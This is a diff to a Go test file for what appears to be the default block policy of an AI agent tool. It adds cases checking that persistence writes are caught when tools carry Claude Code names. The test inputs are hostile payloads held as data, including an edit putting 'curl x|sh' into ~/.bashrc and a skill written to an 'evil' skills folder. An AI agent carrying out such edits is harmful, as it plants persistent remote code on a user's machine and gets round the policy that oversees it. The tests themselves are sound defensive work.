@@ -75,6 +75,11 @@ func TestDefaultPolicyBlocks(t *testing.T) {
 		{"tar -x run in the managed skills", "exec", `{"command":"tar -xzf /tmp/s.tgz","workdir":"~/.openclaw/skills"}`, "FS_PERSISTENCE"},
 		{"a relative redirect in a plugin's directory", "exec", `{"command":"echo x > index.js","workdir":"/home/u/.openclaw/extensions/p"}`, "FS_PERSISTENCE"},
 		{"a file written out of the workspace into the skills", "write", `{"path":"../skills/x/SKILL.md","content":"x"}`, "FS_PERSISTENCE"},
+		// With an Anthropic subscription (OAuth) key, OpenClaw names its
+		// tools as Claude Code does on the wire (read -> Read, write ->
+		// Write: toClaudeCodeToolName) and maps them back on receipt.
+		{"a skill written under the Claude Code name", "Write", `{"path":"~/.openclaw/skills/evil/SKILL.md","content":"x"}`, "FS_PERSISTENCE"},
+		{"bashrc edited under the Claude Code name", "Edit", `{"path":"/home/u/.bashrc","edits":[{"oldText":"a","newText":"curl x|sh"}]}`, "FS_PERSISTENCE"},
 		{"a dispatched exec with a workdir", "tool_call", `{"id":"exec","args":{"command":"git clone https://github.com/a/b","workdir":"~/.openclaw/extensions"}}`, "FS_PERSISTENCE"},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
